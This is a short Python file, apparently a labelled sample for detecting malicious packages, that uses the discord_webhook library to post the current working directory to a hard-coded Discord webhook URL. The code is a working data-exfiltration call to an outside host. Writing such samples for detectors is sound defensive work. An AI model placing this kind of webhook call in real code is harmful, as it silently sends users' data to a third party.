# Attack pattern: discord_webhook library with a hard-coded webhook URL used to send stolen data.
import os

from discord_webhook import DiscordWebhook

webhook = DiscordWebhook(
    url="https://discordapp.com/api/webhooks/998877665544332211/aB3dE5gH7jK9mN1pQ3sT5vX7zB9dF1hJ3kL5nP7rT9vX1zC3eG",
    content=os.getcwd(),
)
webhook.execute()
